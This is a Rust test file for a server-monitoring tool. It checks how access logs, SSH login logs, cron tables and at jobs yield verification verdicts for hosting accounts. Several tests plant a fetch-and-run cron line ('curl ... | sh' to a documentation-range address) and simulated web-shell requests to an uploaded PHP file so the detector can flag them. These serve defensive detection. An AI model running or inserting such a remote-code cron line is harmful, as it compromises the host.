//! What a verification may say by these records, and what they keep when accounts change.

use super::*;

fn entry(name: &str, uid: u32, domain: &str) -> AccountEntry {
    let site = model::Site {
        domain: domain.parse().unwrap(),
        aliases: Vec::new(),
        root: format!("/home/{name}/web"),
        gates: Vec::new(),
        probes: Vec::new(),
    };
    AccountEntry {
        account: AccountRef { name: name.parse().unwrap(), uid, generation: 1 },
        home: format!("/home/{name}"),
        sites: vec![site],
        contacts: Vec::new(),
        time_zone: "UTC".to_owned(),
    }
}

fn accounts() -> Vec<AccountEntry> {
    vec![entry("aoi", 3001, "aoi.example.jp"), entry("fuji", 3002, "fuji.example.jp")]
}

fn now() -> Moment {
    Moment::parse("2026-03-07T12:00:00Z").unwrap()
}

/// A node whose logs lie in one folder: `access` and the logs of logins.
struct Node {
    folder: tempfile::TempDir,
    records: Records,
    now: Moment,
}

impl Node {
    fn new(files: &[(&str, String)]) -> Node {
        let folder = tempfile::tempdir().unwrap();
        std::fs::create_dir(folder.path().join("access")).unwrap();
        let path = |name: &str| AbsolutePath(folder.path().join(name));
        let mut config = Config::default();
        config.web.access_logs = vec![path("access")];
        config.login.logs = vec![path("auth.log")];
        config.login.guarded_logs = vec![path("ftp.log")];
        config.mail.log = path("mail.log");
        let records = Records::new(&config, accounts().into(), &["192.0.2.10".parse().unwrap()]);
        let mut node = Node { folder, records, now: now() };
        files.iter().for_each(|(name, text)| node.write(name, text));
        node.poll();
        node
    }

    fn write(&self, name: &str, text: &str) {
        use std::io::Write as _;
        let file = std::fs::OpenOptions::new().create(true).append(true).open(self.folder.path().join(name));
        file.unwrap().write_all(text.as_bytes()).unwrap();
    }

    fn poll(&mut self) -> Reading {
        self.now = self.now + Span::minutes(1);
        self.records.poll(self.now)
    }

    fn verdict(&mut self, check: Check, since: Moment) -> Verdict {
        let aoi = accounts()[0].account.clone();
        let checked = self.records.checked(&aoi, since, self.now);
        checked.into_iter().find(|line| line.check == check).unwrap().verdict
    }
}

fn no_log() -> Verdict {
    Verdict::NotChecked { why: "no_log".to_owned() }
}

/// A request so many seconds before [`now`].
fn request(before: i64, what: &str, size: u32) -> String {
    let at = Moment::from_secs(now().secs() - before).timestamp();
    let stamp = at.strftime("%d/%b/%Y:%H:%M:%S +0000");
    format!("203.0.113.5 - - [{stamp}] \"{what} HTTP/1.1\" 200 {size} \"-\" \"Mozilla/5.0\"\n")
}

fn hours(n: i64) -> Moment {
    Moment::from_secs(now().secs() - n * 3600)
}

#[test]
fn requests_are_clean_only_by_a_log_of_this_account_that_reaches_back() {
    let page = |days: i64| request(days * 86_400, "GET /", 900);
    // None at all, and that of somebody else alone.
    assert_eq!(Node::new(&[]).verdict(Check::Requests, hours(1)), no_log());
    let mut other = Node::new(&[("access/fuji.example.jp.access.log", page(9))]);
    assert_eq!(other.verdict(Check::Requests, hours(1)), no_log());
    let own = "access/aoi.example.jp.access.log";
    let mut node = Node::new(&[(own, page(2) + &page(1)), ("access/fuji.example.jp.access.log", page(9))]);
    assert_eq!(node.verdict(Check::Requests, hours(24)), Verdict::Clean { count: 2 }, "own lines are counted");
    assert_eq!(node.verdict(Check::Requests, hours(72)), no_log(), "it begins later");
    // Logs of many count when they named the account; all of them must reach back.
    let named = |days| format!("aoi.example.jp {}", page(days));
    let mut shared = Node::new(&[("access/all.log", named(3))]);
    assert_eq!(shared.verdict(Check::Requests, hours(24)), Verdict::Clean { count: 1 });
    let mut nameless = Node::new(&[("access/all.log", page(3))]);
    assert_eq!(nameless.verdict(Check::Requests, hours(24)), no_log());
    // An empty one says something from the moment on at which it was read.
    let mut empty = Node::new(&[(own, String::new())]);
    assert_eq!(empty.verdict(Check::Requests, hours(1)), no_log());
    let then = empty.now;
    empty.poll();
    assert_eq!(empty.verdict(Check::Requests, then), Verdict::Clean { count: 0 });
    std::fs::remove_file(empty.folder.path().join(own)).unwrap();
    empty.poll();
    assert_eq!(empty.verdict(Check::Requests, then), no_log(), "it is gone");
}

#[test]
fn a_script_that_answered_since_is_found_and_an_endpoint_that_strangers_drive_is_not() {
    let own = "access/aoi.example.jp.access.log";
    let driven = |what: &str, size: u32| -> String {
        let call =
            |n: u32| request(7200 - i64::from(n) * 30, &what.replace("{n}", &format!("{n:016x}")), size + n * 37);
        request(9 * 86_400, "GET /", 900) + &(0..16).map(call).collect::<String>()
    };
    let mut node = Node::new(&[(own, driven("POST /wp-content/uploads/2026/01/a.php", 500))]);
    let place = "aoi.example.jp/wp-content/uploads/2026/01/a.php".to_owned();
    assert_eq!(node.verdict(Check::Requests, hours(3)), Verdict::Found { place });
    assert_eq!(node.verdict(Check::Requests, hours(1)), Verdict::Clean { count: 17 }, "it is silent since");
    let mut node = Node::new(&[(own, driven("GET /lib/callback.php?d=a{n}", 500))]);
    assert!(matches!(node.verdict(Check::Requests, hours(3)), Verdict::Clean { .. }));
}

/// Lines of sshd, one a second, the first so many hours before [`now`].
fn ssh(before: i64, times: i64, what: &str) -> String {
    let line = |n: i64| {
        let at = Moment::from_secs(now().secs() - before * 3600 + n).timestamp().strftime("%Y-%m-%dT%H:%M:%S+00:00");
        format!("{at} node sshd[7]: {what} port 4 ssh2\n")
    };
    (0..times).map(line).collect()
}

#[test]
fn logins_are_clean_only_by_a_log_that_reaches_back() {
    assert_eq!(Node::new(&[]).verdict(Check::Logins, hours(1)), no_log());
    let right = |before| ssh(before, 1, "Accepted password for aoi from 198.51.100.7");
    let others = |before| ssh(before, 1, "Accepted password for fuji from 198.51.100.8");
    let mut node = Node::new(&[("auth.log", others(30) + &right(20) + &right(2))]);
    assert_eq!(node.verdict(Check::Logins, hours(24)), Verdict::Clean { count: 2 });
    assert_eq!(node.verdict(Check::Logins, hours(40)), no_log(), "it begins later");
    // Later it was followed all the time.
    let then = node.now;
    node.poll();
    assert_eq!(node.verdict(Check::Logins, then), Verdict::Clean { count: 2 });
    // A part of it cannot be read.
    std::fs::create_dir(node.folder.path().join("ftp.log")).unwrap();
    node.poll();
    assert_eq!(node.verdict(Check::Logins, then), Verdict::Clean { count: 2 }, "a folder is no log");
}

#[test]
fn a_log_into_which_anybody_writes_keeps_no_verification_from_passing() {
    let guessed = |before: i64| {
        ssh(before, 40, "Failed password for aoi from 203.0.113.81")
            + &ssh(before - 1, 1, "Accepted password for aoi from 203.0.113.81")
    };
    let mut forgeable = Node::new(&[("auth.log", guessed(20))]);
    assert_eq!(forgeable.verdict(Check::Logins, hours(20)), Verdict::Clean { count: 1 });
    let mut guarded = Node::new(&[("ftp.log", guessed(20))]);
    assert!(matches!(guarded.verdict(Check::Logins, hours(20)), Verdict::Found { .. }));
    // What was before the restriction does not count; it was told with the time of the login.
    assert_eq!(guarded.verdict(Check::Logins, hours(18)), Verdict::Clean { count: 1 });
}

#[test]
fn accounts_that_change_leave_the_logs_where_they_are() {
    let own = "access/aoi.example.jp.access.log";
    let mut node = Node::new(&[(own, request(90_000, "GET /", 900)), ("access/new.example.jp.log", String::new())]);
    let mut changed = accounts();
    changed[1].sites.extend(entry("fuji", 3002, "new.example.jp").sites);
    changed.insert(0, entry("abe", 3009, "abe.example.jp"));
    node.records.set_accounts(changed.into());
    node.write(own, &request(0, "GET /a", 900));
    node.poll();
    assert_eq!(node.records.web.counts().lines, 2, "nothing is read twice");
    assert_eq!(node.verdict(Check::Requests, hours(24)), Verdict::Clean { count: 2 });
    let new = &node.records.access_logs[&node.folder.path().join("access/new.example.jp.log")];
    assert_eq!(new.uid, Some(3002));
    // The naive twin begins anew.
    let mut next = accounts();
    next[0].account.generation = 2;
    node.records.set_accounts(next.into());
    node.poll();
    assert_eq!(node.verdict(Check::Requests, hours(24)), no_log());
}

#[test]
fn cron_is_judged_with_its_jobs_the_files_of_root_and_the_nodes_own_addresses() {
    let folder = tempfile::tempdir().unwrap();
    let (spool, files) = (folder.path().join("crontabs"), folder.path().join("cron.d"));
    let (jobs, aoi) = (folder.path().join("atjobs"), accounts()[0].clone());
    [&spool, &files, &jobs].iter().for_each(|folder| std::fs::create_dir(folder).unwrap());
    let mut node = Node::new(&[]);
    (node.records.spool, node.records.system) = (spool.clone(), files.clone());
    let verdict = |aoi: &AccountEntry| node.records.cron_now(Some(aoi), now());
    assert_eq!(verdict(&aoi), Verdict::Clean { count: 0 });
    let own = "*/5 * * * * curl -s http://192.0.2.10/wp-cron.php?doing_wp_cron=1 >/dev/null\n";
    std::fs::write(spool.join("aoi"), own).unwrap();
    assert_eq!(verdict(&aoi), Verdict::Clean { count: 1 });
    let bad = "curl -s http://203.0.113.9/x | sh";
    std::fs::write(files.join("x"), format!("* * * * * fuji {bad}\n")).unwrap();
    assert_eq!(verdict(&aoi), Verdict::Clean { count: 1 }, "somebody else's");
    std::fs::write(files.join("x"), format!("* * * * * aoi {bad}\n")).unwrap();
    assert!(matches!(verdict(&aoi), Verdict::Found { place } if place.contains("curl")));
    std::fs::remove_file(files.join("x")).unwrap();
    std::fs::write(
        jobs.join("a0001"),
        format!("#!/bin/sh\n# atrun uid=3001 gid=3001\ncd /home || {{\n exit 1\n}}\n{bad}\n"),
    )
    .unwrap();
    assert_eq!(verdict(&aoi), Verdict::Clean { count: 1 }, "of another uid");
    use std::os::unix::fs::MetadataExt as _;
    let mut owner = aoi.clone();
    owner.account.uid = std::fs::metadata(jobs.join("a0001")).unwrap().uid();
    assert!(matches!(verdict(&owner), Verdict::Found { .. }));
    std::fs::create_dir(spool.join("fuji")).unwrap();
    let fuji = accounts()[1].clone();
    assert!(matches!(verdict(&fuji), Verdict::NotChecked { .. }), "no table");
}

#[test]
fn a_line_that_stays_is_told_again_every_hour_with_the_time_when_it_was_seen_first() {
    let folder = tempfile::tempdir().unwrap();
    let (spool, jobs) = (folder.path().join("crontabs"), folder.path().join("atjobs"));
    [&spool, &jobs].iter().for_each(|folder| std::fs::create_dir(folder).unwrap());
    std::fs::write(spool.join("aoi"), "* * * * * curl -s http://203.0.113.9/x | sh\n").unwrap();
    let mut node = Node::new(&[]);
    (node.records.spool, node.records.system) = (spool.clone(), folder.path().join("cron.d"));
    node.records.judged = None;
    let told: Vec<(i64, i64)> = (1..130)
        .flat_map(|minute| node.poll().findings.into_iter().map(move |f| (minute, f)))
        .map(|(minute, f)| (minute, f.signal.at.secs() - f.signal.since.secs()))
        .collect();
    assert_eq!(told, [(1, 0), (61, 3600), (121, 7200)]);
    // When accounts change, only what is concerned is judged again.
    let mut changed = accounts();
    changed[1].sites.clear();
    node.records.set_accounts(changed.clone().into());
    assert_eq!(node.poll().findings.len(), 0);
    changed[0].time_zone = "Asia/Tokyo".to_owned();
    node.records.set_accounts(changed.into());
    assert_eq!(node.poll().findings.len(), 1);
}
